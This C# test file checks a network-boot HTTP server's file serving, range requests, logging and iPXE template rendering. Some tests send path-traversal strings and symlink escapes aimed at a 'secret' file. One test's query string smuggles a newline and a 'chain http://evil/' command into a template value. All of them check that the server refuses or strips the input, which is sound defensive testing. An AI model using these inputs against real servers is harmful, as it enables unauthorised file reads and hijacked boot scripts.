using System.Collections.Immutable;
using System.Net;
using System.Net.Http.Headers;
using System.Net.Sockets;
using System.Text;
using NetBoot.Configuration.Model;
using NetBoot.Hosting.Http;

namespace NetBoot.Hosting.Tests.Http;

/// <summary>The HTTP boot server on 127.0.0.1 (loopback only): GET/HEAD, Range, Content-Length and types, the TFTP
/// path policy (no '..', nothing outside the root, no symlink escape), concurrency and one log line per transfer.</summary>
public sealed class HttpBootServiceTests : IAsyncLifetime
{
    private readonly string _top = Directory.CreateTempSubdirectory("netboot-http-").FullName;
    private readonly RecordingLogger<HttpBootService> _log = new();
    private readonly CancellationTokenSource _stop = new();
    private readonly byte[] _payload = [.. Enumerable.Range(0, 1 << 20).Select(i => (byte)(i * 7 + (i >> 8)))];
    private Task _running = Task.CompletedTask;
    private HttpClient _client = new();
    private IPEndPoint _endpoint = new(IPAddress.Loopback, 0);

    private string Root => Path.Combine(_top, "root");

    public async Task InitializeAsync()
    {
        Directory.CreateDirectory(Path.Combine(Root, "efi"));
        await File.WriteAllBytesAsync(Path.Combine(Root, "initrd.img"), _payload);
        await File.WriteAllTextAsync(Path.Combine(Root, "boot.ipxe"), "#!ipxe\nchain http://${next-server}/vmlinuz\n");
        await File.WriteAllBytesAsync(Path.Combine(Root, "efi", "ipxe.efi"), [0x4d, 0x5a, 1, 2]);
        await File.WriteAllTextAsync(Path.Combine(Root, "host.ipxe.tmpl"), "#!ipxe\necho {{client}} {{mac}} {{arch}}\nchain http://{{server}}/hosts/{{mac-hyphen}}.ipxe\n");
        await File.WriteAllTextAsync(Path.Combine(_top, "secret"), "do not serve");
        File.CreateSymbolicLink(Path.Combine(Root, "escape"), Path.Combine(_top, "secret"));
        Directory.CreateSymbolicLink(Path.Combine(Root, "escape-dir"), _top);
        await File.WriteAllTextAsync(Path.Combine(Root, "unreadable"), "locked");
        if (OperatingSystem.IsWindows())
        {
            throw new PlatformNotSupportedException("the HTTP root fixture needs POSIX files");
        }
        // Mode 000: refused as root too (as dnsmasq, a server running as root serves only world-readable files).
        File.SetUnixFileMode(Path.Combine(Root, "unreadable"), UnixFileMode.None);
        var config = new ServerConfig { Http = new HttpConfig { IsEnabled = true, Root = Root, Port = 0 } };
        var service = new HttpBootService(new ConfigSnapshot(config), _log);
        _running = service.RunAsync([new IPEndPoint(IPAddress.Loopback, 0)], _stop.Token);
        var bound = await service.Started.WaitAsync(TimeSpan.FromSeconds(20));
        _endpoint = Assert.Single(bound);
        _client = new HttpClient { BaseAddress = new Uri($"http://{_endpoint}/"), Timeout = TimeSpan.FromSeconds(20) };
    }

    public async Task DisposeAsync()
    {
        _client.Dispose();
        await _stop.CancelAsync();
        await _running.WaitAsync(TimeSpan.FromSeconds(20));
        _stop.Dispose();
        Directory.Delete(_top, recursive: true);
    }

    [Fact]
    public async Task Get_returns_the_whole_file_with_length_and_type_and_logs_the_transfer()
    {
        using var response = await _client.GetAsync(new Uri("initrd.img", UriKind.Relative));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(_payload.Length, response.Content.Headers.ContentLength);
        Assert.Equal("bytes", Assert.Single(response.Headers.AcceptRanges));
        Assert.Equal(_payload, await response.Content.ReadAsByteArrayAsync());
        var line = await _log.WaitForAsync(l => l.StartsWith("HTTP GET /initrd.img", StringComparison.Ordinal));
        Assert.Equal($"HTTP GET /initrd.img from 127.0.0.1: 200 sent {Root}/initrd.img, {_payload.Length} bytes", line);
    }

    [Theory]
    [InlineData("boot.ipxe", "text/plain; charset=utf-8")]
    [InlineData("efi/ipxe.efi", "application/efi")]
    [InlineData("initrd.img", "application/octet-stream")]
    public async Task Content_type_follows_the_extension(string name, string type)
    {
        using var response = await _client.GetAsync(new Uri(name, UriKind.Relative));

        Assert.Equal(type, response.Content.Headers.ContentType!.ToString());
    }

    [Fact]
    public async Task Range_request_gets_206_with_only_those_bytes()
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, "initrd.img");
        request.Headers.Range = new RangeHeaderValue(1000, 1999);

        using var response = await _client.SendAsync(request);

        Assert.Equal(HttpStatusCode.PartialContent, response.StatusCode);
        Assert.Equal(1000, response.Content.Headers.ContentLength);
        Assert.Equal($"bytes 1000-1999/{_payload.Length}", response.Content.Headers.ContentRange!.ToString());
        Assert.Equal(_payload[1000..2000], await response.Content.ReadAsByteArrayAsync());
        await _log.WaitForAsync(l => l.Contains("206 sent", StringComparison.Ordinal) && l.Contains("(bytes 1000-1999/", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Suffix_range_gets_the_tail_and_an_unsatisfiable_range_gets_416()
    {
        using var tail = new HttpRequestMessage(HttpMethod.Get, "initrd.img");
        tail.Headers.Range = new RangeHeaderValue(null, 16);
        using var beyond = new HttpRequestMessage(HttpMethod.Get, "initrd.img");
        beyond.Headers.Range = new RangeHeaderValue(_payload.Length + 10, null);

        using var tailResponse = await _client.SendAsync(tail);
        using var beyondResponse = await _client.SendAsync(beyond);

        Assert.Equal(_payload[^16..], await tailResponse.Content.ReadAsByteArrayAsync());
        Assert.Equal(HttpStatusCode.RequestedRangeNotSatisfiable, beyondResponse.StatusCode);
    }

    [Fact]
    public async Task Head_gives_the_length_without_a_body()
    {
        using var request = new HttpRequestMessage(HttpMethod.Head, "initrd.img");

        using var response = await _client.SendAsync(request);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(_payload.Length, response.Content.Headers.ContentLength);
        Assert.Empty(await response.Content.ReadAsByteArrayAsync());
        await _log.WaitForAsync(l => l.StartsWith("HTTP HEAD /initrd.img from 127.0.0.1: 200", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("missing.efi", HttpStatusCode.NotFound)]
    [InlineData("efi", HttpStatusCode.NotFound)]
    [InlineData("", HttpStatusCode.NotFound)]
    [InlineData("escape", HttpStatusCode.NotFound)]
    public async Task Missing_files_directories_and_symlinks_out_of_the_root_are_refused(string name, HttpStatusCode status)
    {
        using var response = await _client.GetAsync(new Uri(name, UriKind.Relative));

        Assert.Equal(status, response.StatusCode);
        Assert.DoesNotContain("do not serve", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.DoesNotContain(_top, await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        await _log.WaitForAsync(l => l.StartsWith($"HTTP GET /{name} from 127.0.0.1: {(int)status}", StringComparison.Ordinal));
    }

    // Raw request lines: HttpClient would normalise these before sending.
    [Theory]
    [InlineData("/../secret")]
    [InlineData("/efi/../../secret")]
    [InlineData("/%2e%2e/secret")]
    [InlineData("/efi/%2e%2e%2f%2e%2e%2fsecret")]
    [InlineData("/..%5csecret")]
    [InlineData("/..\\secret")]
    public async Task Traversal_attempts_never_reach_a_file_outside_the_root(string target)
    {
        var response = await RawRequestAsync($"GET {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");

        Assert.DoesNotContain("do not serve", response, StringComparison.Ordinal);
        Assert.Matches("^HTTP/1.1 (400|404) ", response);
    }

    /// <summary>Issue 14 item 7: outside the root (a symlinked file, a symlinked directory, '..'), missing, unreadable
    /// or a directory: the client receives the same bytes (status, headers but the date, body); the log line for each
    /// names the real reason.</summary>
    [Fact]
    public async Task Every_refused_name_gets_the_same_answer_and_the_log_keeps_the_reason()
    {
        (string Target, string Reason)[] cases =
        [
            ("/missing.efi", "404 file not found"),
            ("/escape-dir/nothing", "404 file not found"),
            ("/escape", "404 outside the root: a symlink leads to "),
            ("/escape-dir/secret", "404 outside the root: a symlink leads to "),
            ("/unreadable", "404 permission denied: "),
            ("/efi", "404 not a regular file: "),
            ("/efi/", "404 not a regular file"),
        ];
        var answers = new List<string>();
        foreach (var (target, reason) in cases)
        {
            answers.Add(WithoutDate(await RawRequestAsync($"GET {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")));
            await _log.WaitForAsync(l => l.StartsWith($"HTTP GET {target} from 127.0.0.1: {reason}", StringComparison.Ordinal));
        }
        // '..' never reaches the handler as such (Kestrel removes dot segments): the same bytes as well.
        answers.Add(WithoutDate(await RawRequestAsync("GET /../secret HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")));

        Assert.StartsWith("HTTP/1.1 404 Not Found\r\n", answers[0], StringComparison.Ordinal);
        Assert.EndsWith("\r\n\r\n404 file not found\n", answers[0], StringComparison.Ordinal);
        Assert.All(answers, answer => Assert.Equal(answers[0], answer));
    }

    private static string WithoutDate(string response) =>
        string.Join("\r\n", response.Split("\r\n").Where(line => !line.StartsWith("Date:", StringComparison.OrdinalIgnoreCase)));

    [Fact]
    public async Task Other_methods_are_refused_with_allow()
    {
        using var response = await _client.PostAsync(new Uri("boot.ipxe", UriKind.Relative), new StringContent("x"));

        Assert.Equal(HttpStatusCode.MethodNotAllowed, response.StatusCode);
        Assert.Equal("GET, HEAD", response.Content.Headers.Allow.Count > 0 ? string.Join(", ", response.Content.Headers.Allow) : string.Join(", ", response.Headers.GetValues("Allow")));
    }

    [Fact]
    public async Task Twenty_concurrent_downloads_all_get_the_whole_file()
    {
        using var many = new HttpClient(new SocketsHttpHandler { MaxConnectionsPerServer = 20 }) { BaseAddress = _client.BaseAddress };

        var bodies = await Task.WhenAll(Enumerable.Range(0, 20).Select(_ => many.GetByteArrayAsync(new Uri("initrd.img", UriKind.Relative))));

        Assert.All(bodies, body => Assert.Equal(_payload, body));
    }

    [Fact]
    public async Task Template_is_rendered_per_client_from_the_query_and_logged()
    {
        var script = await _client.GetStringAsync(new Uri("host.ipxe?mac=52:54:00:AB:CD:EF&arch=x86_64", UriKind.Relative));

        Assert.Equal($"#!ipxe\necho 127.0.0.1 52:54:00:AB:CD:EF x86_64\nchain http://{_endpoint}/hosts/52-54-00-ab-cd-ef.ipxe\n", script);
        await _log.WaitForAsync(l => l.StartsWith("HTTP GET /host.ipxe from 127.0.0.1: 200 sent ", StringComparison.Ordinal) && l.Contains("host.ipxe.tmpl (rendered)", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Template_values_that_could_inject_commands_are_left_out()
    {
        var script = await _client.GetStringAsync(new Uri("host.ipxe?mac=x%0Achain%20http://evil/&arch=a%20b", UriKind.Relative));

        Assert.Equal("#!ipxe\necho 127.0.0.1  \nchain http://" + _endpoint + "/hosts/.ipxe\n", script);
    }

    [Fact]
    public async Task Template_itself_and_a_missing_name_without_template_are_not_confused()
    {
        using var raw = await _client.GetAsync(new Uri("host.ipxe.tmpl", UriKind.Relative));
        using var missing = await _client.GetAsync(new Uri("other.ipxe", UriKind.Relative));

        Assert.Contains("{{client}}", await raw.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.NotFound, missing.StatusCode);
    }

    private async Task<string> RawRequestAsync(string request)
    {
        using var tcp = new TcpClient();
        await tcp.ConnectAsync(_endpoint);
        var stream = tcp.GetStream();
        await stream.WriteAsync(Encoding.ASCII.GetBytes(request));
        using var reader = new StreamReader(stream, Encoding.Latin1);
        return await reader.ReadToEndAsync().WaitAsync(TimeSpan.FromSeconds(10));
    }
}
